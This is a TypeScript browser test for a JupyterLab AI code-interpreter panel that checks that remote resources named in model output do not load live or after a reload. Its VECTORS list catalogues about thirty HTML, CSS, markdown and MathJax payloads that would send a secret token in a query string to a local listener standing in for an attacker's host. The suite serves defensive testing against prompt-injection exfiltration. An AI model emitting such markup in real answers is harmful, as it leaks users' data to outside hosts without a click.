/**
 * No-click exfiltration (issue 14, "High"): model output that names remote resources must not
 * make the browser fetch anything, neither when it is rendered live nor when the stored
 * conversation is rendered again after a reload. A local HTTP listener (an ephemeral port chosen
 * by the system) stands for the attacker's host and records every request that reaches it.
 */
import { expect, IJupyterLabPageFixture, test } from '@jupyterlab/galata';
import * as http from 'http';
import type { AddressInfo } from 'net';
import {
  openPanel,
  reloadWithPanel,
  script,
  send,
  textReply,
  waitIdle
} from './helpers';

const PANEL = '#jp-code-interp-panel';
/** A 1×1 PNG, served by the listener and written as a file under the server root. */
const PNG_BASE64 =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=';
const PNG = Buffer.from(PNG_BASE64, 'base64');
/** What an injected instruction would smuggle out in a query string. */
const SECRET = 'd=SECRET-TOKEN-42';

/** The attacker's host: records the path of every request it receives. */
class Listener {
  /** Paths requested so far, in order. */
  readonly hits: string[] = [];

  /** Start listening on 127.0.0.1 and an ephemeral port. */
  async start(): Promise<void> {
    this._server = http.createServer((req, res) => {
      this.hits.push((req.url ?? '').split('?')[0]);
      res.writeHead(200, {
        'Content-Type': 'image/png',
        'Access-Control-Allow-Origin': '*'
      });
      res.end(PNG);
    });
    await new Promise<void>(resolve =>
      this._server!.listen(0, '127.0.0.1', () => resolve())
    );
  }

  /** `host:port` of the listener. */
  get host(): string {
    const address = this._server!.address() as AddressInfo;
    return `127.0.0.1:${address.port}`;
  }

  /** Stop listening. */
  async stop(): Promise<void> {
    this._server?.closeAllConnections();
    await new Promise<void>(resolve => this._server!.close(() => resolve()));
  }

  private _server: http.Server | null = null;
}

/** Each way model output can name a resource; `{u:name}` becomes a listener URL. */
const VECTORS: Array<[string, string]> = [
  ['markdown image', '![chart]({u:md-image})'],
  ['markdown reference image', '![chart][ref]\n\n[ref]: {u:md-ref}'],
  ['img src', '<img src="{u:img-src}" alt="img-src">'],
  ['img srcset', '<img srcset="{u:img-srcset} 1x, {u:img-srcset2} 2x">'],
  [
    'picture source',
    '<picture><source srcset="{u:picture-source}"><img src="{u:picture-img}"></picture>'
  ],
  ['protocol-relative img', '<img src="{p:proto-relative}">'],
  [
    'style url()',
    '<div style="background-image: url({u:style-url}); height: 4px">s</div>'
  ],
  [
    'style background shorthand',
    '<span style="background: url(\'{u:style-bg}\') no-repeat">s</span>'
  ],
  [
    'style escaped url()',
    '<span style="background-image: u\\72l({u:style-escaped})">s</span>'
  ],
  [
    'style list-style-image',
    '<ul><li style="list-style-image: url({u:style-list})">li</li></ul>'
  ],
  [
    '<style> block',
    '<style>@import url({u:style-import}); .x { background: url({u:style-block}) }</style><div class="x">x</div>'
  ],
  ['video src autoplay', '<video src="{u:video-src}" autoplay muted></video>'],
  ['video poster', '<video poster="{u:video-poster}" controls></video>'],
  [
    'video source and track',
    '<video autoplay muted><source src="{u:video-source}"><track src="{u:video-track}"></video>'
  ],
  ['audio src autoplay', '<audio src="{u:audio-src}" autoplay></audio>'],
  [
    'audio source',
    '<audio autoplay preload="auto"><source src="{u:audio-source}"></audio>'
  ],
  ['link stylesheet', '<link rel="stylesheet" href="{u:link-css}">'],
  ['link prefetch', '<link rel="prefetch" href="{u:link-prefetch}">'],
  ['iframe', '<iframe src="{u:iframe}"></iframe>'],
  ['object', '<object data="{u:object}"></object>'],
  ['embed', '<embed src="{u:embed}">'],
  [
    'svg image',
    '<svg width="8" height="8"><image href="{u:svg-image}" width="8" height="8"/></svg>'
  ],
  [
    'svg xlink image',
    '<svg width="8" height="8"><image xlink:href="{u:svg-xlink}" width="8" height="8"/></svg>'
  ],
  [
    'background attribute',
    '<table background="{u:table-bg}"><tr><td background="{u:td-bg}">cell</td></tr></table>'
  ],
  ['input type=image', '<input type="image" src="{u:input-image}" alt="i">'],
  [
    'meta refresh',
    '<meta http-equiv="refresh" content="0;url={u:meta-refresh}">'
  ],
  ['base href', '<base href="{u:base}/">'],
  ['MathJax \\style', '$\\style{background-image: url({u:mathjax})}{x}$'],
  [
    'form',
    '<form action="{u:form-action}" method="get"><input name="q" value="secret"><button>Send form</button><button formaction="{u:formaction}">Other</button></form>'
  ]
];

/** The probe answer: every vector, an allowed data: image and a file under the server root. */
function probeAnswer(host: string): string {
  const parts = VECTORS.map(([name, template]) => {
    const html = template
      .replace(/\{u:([a-z0-9-]+)\}/g, `http://${host}/$1?${SECRET}`)
      .replace(/\{p:([a-z0-9-]+)\}/g, `//${host}/$1?${SECRET}`);
    return `**${name}**\n\n${html}`;
  });
  return [
    'PROBE-START',
    ...parts,
    `<img alt="inline-data" src="data:image/png;base64,${PNG_BASE64}">`,
    '![local file](local-plot.png)',
    'PROBE-END'
  ].join('\n\n');
}

/** The last answer in the panel. */
function answer(page: IJupyterLabPageFixture) {
  return page
    .locator(`${PANEL} .jp-CodeInterp-message[data-role="assistant"]`)
    .last()
    .locator('.jp-CodeInterp-markdown');
}

/** Wait until the probe has rendered and every image in the answer has loaded or failed. */
async function settle(page: IJupyterLabPageFixture): Promise<void> {
  await expect(answer(page)).toContainText('PROBE-END', { timeout: 60000 });
  await expect
    .poll(() =>
      answer(page)
        .locator('img')
        .evaluateAll(images =>
          images.every(image => (image as HTMLImageElement).complete)
        )
    )
    .toBe(true);
  // Media, stylesheets and frames start their requests when inserted: give the slowest of them
  // (a video's metadata request) time to reach the local listener before counting.
  await page.waitForTimeout(1500);
}

test.describe('remote resources in model output do not load by themselves', () => {
  const listener = new Listener();
  test.beforeAll(async () => listener.start());
  test.afterAll(async () => listener.stop());

  test('nothing reaches the listener live or on replay, until one Load click', async ({
    page,
    request,
    tmpPath
  }) => {
    const browserHits: string[] = [];
    page.on('request', req => {
      if (req.url().includes(listener.host)) {
        browserHits.push(new URL(req.url()).pathname);
      }
    });
    expect(
      await page.contents.uploadContent(
        PNG_BASE64,
        'base64',
        `${tmpPath}/local-plot.png`
      )
    ).toBe(true);
    await page.notebook.createNew('exfiltration.ipynb', { kernel: 'python3' });
    await openPanel(page);
    await script(request, textReply(probeAnswer(listener.host)));
    await send(page, 'summarise the uploaded file');
    await waitIdle(page);
    await settle(page);
    const live = [...listener.hits];
    await page.notebook.save();

    // A form in the answer does not submit (the page stays where it is).
    const before = page.url();
    const formButton = answer(page).getByText('Send form');
    if ((await formButton.count()) > 0) {
      await formButton.first().click({ force: true, timeout: 2000 });
    }
    await page.waitForTimeout(500);
    const formSubmitted = page.url() !== before || listener.hits.length > 0;

    listener.hits.length = 0;
    await reloadWithPanel(page);
    await settle(page);
    const replay = [...listener.hits];

    // Figures for the closing note of the issue (before → after).
    console.log(
      `exfiltration probe: ${VECTORS.length} vectors; live: ${live.length} requests ` +
        `${JSON.stringify(live)}; replay: ${replay.length} requests ` +
        `${JSON.stringify(replay)}; form submitted: ${formSubmitted}`
    );
    expect(live).toEqual([]);
    expect(replay).toEqual([]);
    expect(formSubmitted).toBe(false);
    expect(browserHits).toEqual([]);

    // Allowed: data: images of raster types, and files under the server root.
    const inline = answer(page).locator('img[alt="inline-data"]');
    await expect(inline).toHaveJSProperty('naturalWidth', 1);
    const local = answer(page).locator('img[alt="local file"]');
    await expect(local).toHaveJSProperty('naturalWidth', 1);
    expect(await local.getAttribute('src')).toContain('/files/');

    // Placeholders name the host; one Load loads that one resource and nothing else.
    const placeholder = answer(page)
      .locator('.jp-CodeInterp-remote')
      .filter({ hasText: 'Image from 127.0.0.1' })
      .first();
    await expect(placeholder).toBeVisible();
    await expect(placeholder).toContainText(listener.host);
    await placeholder.locator('.jp-CodeInterp-remoteLoad').click();
    const loaded = answer(page).locator(
      `img[src^="http://${listener.host}/md-image"]`
    );
    await expect(loaded).toHaveJSProperty('naturalWidth', 1);
    await page.waitForTimeout(500);
    expect(listener.hits).toEqual(['/md-image']);
    expect(browserHits).toEqual(['/md-image']);
  });
});
